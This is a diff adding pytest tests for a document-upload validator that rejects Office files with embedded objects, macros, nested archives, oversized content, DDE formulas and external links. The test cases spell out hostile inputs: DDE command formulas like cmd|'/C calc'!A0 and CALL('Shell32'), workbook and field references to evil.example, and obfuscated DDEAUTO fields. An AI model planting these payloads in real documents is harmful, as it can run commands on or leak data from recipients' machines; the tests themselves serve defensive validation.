@@ -680,3 +680,132 @@ def test_office_document_that_waits_for_a_click_is_taken(parts):
 def test_open_document_with_a_program_is_refused(content):
     with pytest.raises(ValidationError, match="macro"):
         check_document(upload("verslag.odt", odt(content)))
+
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100
+
+
+def sheets(**parts: bytes) -> bytes:
+    """A workbook, as it stands behind a graph in a report."""
+    return packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", **parts})
+
+
+def wrapped(content: bytes, times: int) -> bytes:
+    for _time in range(times):
+        content = docx(**{"word/embeddings/a.docx": content})
+    return content
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (docx(**{"word/embeddings/oleObject1.bin": OLE}), "ingesloten object"),
+        (docx(**{"word/media/foto.png": OLE}), "ingesloten object"),
+        (docx(**{"word/e.xlsx": sheets(**{"xl/embeddings/a.bin": OLE})}), "ingesloten object"),
+        (docx(**{"word/e.xlsx": sheets(**{"xl/vbaProject.bin": b"x"})}), "macro"),
+        (docx(**{"word/e.bin": sheets(**{"xl/s.xml": b"<f>RTD(1)</f>"})}), "macro"),
+        (docx(**{"word/e.xlsx": packed(kinds("x.macroEnabled"))}), "macro"),
+        (docx(**{"word/e.xlsx": packed({LINKED: relations("image", "http://x")})}), "haalt iets"),
+        (docx(**{"word/e.xlsx": b"PK\x03\x04geen"}), "beschadigd"),
+        (docx(**{"word/embeddings/start.lnk": b"x"}), "macro"),
+        (wrapped(sheets(**{"xl/vbaProject.bin": b"x"}), 2), "macro"),
+        (wrapped(docx(), 3), "veel te groot"),
+        (
+            docx(**{f"word/{n}.xlsx": sheets(**{"xl/a": b"\0" * 19_000_000}) for n in range(2)}),
+            "veel te groot",
+        ),
+        (
+            docx(**{f"word/{n}.xlsx": packed({str(i): b"" for i in range(900)}) for n in range(6)}),
+            "veel te groot",
+        ),
+    ],
+    ids=range(13),
+)
+def test_document_that_holds_another_is_looked_into(content, words):
+    with pytest.raises(ValidationError, match=words):
+        check_document(upload("verslag.docx", content))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        docx(**{"word/embeddings/Microsoft_Excel_Sheet.xlsx": sheets()}),
+        docx(**{"word/e.bin": b"\xd0\xcf", "xl/printerSettings1.bin": b"\0P\0D\0F"}),
+        wrapped(sheets(), 2),
+    ],
+    ids=["graph", "printer", "deep"],
+)
+def test_document_with_the_sheet_behind_a_graph_is_taken(content):
+    assert check_document(upload("verslag.docx", content)) == "docx"
+
+
+@pytest.mark.parametrize(
+    ("formula", "words"),
+    [
+        ('cmd|"/C calc"!A0', "macro"),
+        ("cmd|'/C calc'!A0", "macro"),
+        ("'cmd'|'/C calc'!A0", "macro"),
+        ("T['#x]+cmd|'/C calc'!A0", "macro"),
+        ('CALL("Shell32",1)', "macro"),
+        ("REGISTER.ID(1)", "macro"),
+        ("'https://evil.example/[x.xlsx]S'!A1", "andere plaats"),
+        ("SUM('\\\\evil\\[x.xlsx]S'!A1)", "andere plaats"),
+        ("T['#x]+'https://evil.example/[x.xlsx]S'!A1", "andere plaats"),
+        ("'https://evil.example/d''x/[x.xlsx]S'!A1", "andere plaats"),
+    ],
+)
+@pytest.mark.parametrize("element", ["f", "definedName", "formula1"])
+def test_formula_of_a_workbook_that_asks_elsewhere_is_refused(formula, words, element):
+    part = f"<c><{element}>{formula}</{element}></c>".encode()
+
+    with pytest.raises(ValidationError, match=words):
+        check_document(upload("verslag.docx", docx(**{"xl/a.xml": part})))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM('Jan:Mar'!A1,'[1]Jan:Mar'!A2,'a|b'!A3)",
+        'A1&amp;"|"&amp;\'Blad 2\'!A1&amp;"!"',
+        'HYPERLINK("https://www.vlor.be","lees | meer!")',
+        "'C:\\Punten\\[2024.xlsx]Blad1'!$A$1",
+        "{1;2|3;4}+IF(A1,#REF!,RECALL(1))",
+    ],
+)
+def test_ordinary_formula_of_a_workbook_is_taken(formula):
+    part = f"<c><f>{formula}</f></c>".encode()
+
+    assert check_document(upload("verslag.docx", docx(**{"xl/a.xml": part}))) == "docx"
+
+
+@pytest.mark.parametrize("piece", ["'", "a|'", '|"', "'!", "' "])
+def test_formula_of_megabytes_is_read_once(piece):
+    part = b"<c><f>" + (piece * 400_001)[:400_001].encode() + b"</f></c>"
+    began = process_time()
+
+    with suppress(ValidationError):
+        check_document(upload("verslag.docx", docx(**{"xl/a.xml": part})))
+
+    assert process_time() - began < 3
+
+
+@pytest.mark.parametrize(
+    ("fields", "words"),
+    [
+        (field(" DATABASE \\d &quot;https://evil.example&quot;"), "andere plaats"),
+        (field(" ") + field(" QUOTE 68 68 69") + field(" cmd"), "macro"),
+        (field("QUO", "TE &quot;D&quot; 68"), "macro"),
+        (field(" ") + field(" QUOTE &quot;DDEAUTO&quot;"), "macro"),
+    ],
+)
+def test_field_that_fetches_or_spells_another_is_refused(fields, words):
+    with pytest.raises(ValidationError, match=words):
+        check_document(upload("verslag.docx", docx(**{"word/a.xml": b"<d>" + fields + b"</d>"})))
+
+
+def test_field_that_quotes_words_is_taken():
+    words = field("PAGE") + field(" QUOTE &quot;2024 op school&quot;") + field("DATE")
+
+    content = docx(**{"word/a.xml": b"<d>" + words + b"</d>"})
+
+    assert check_document(upload("verslag.docx", content)) == "docx"
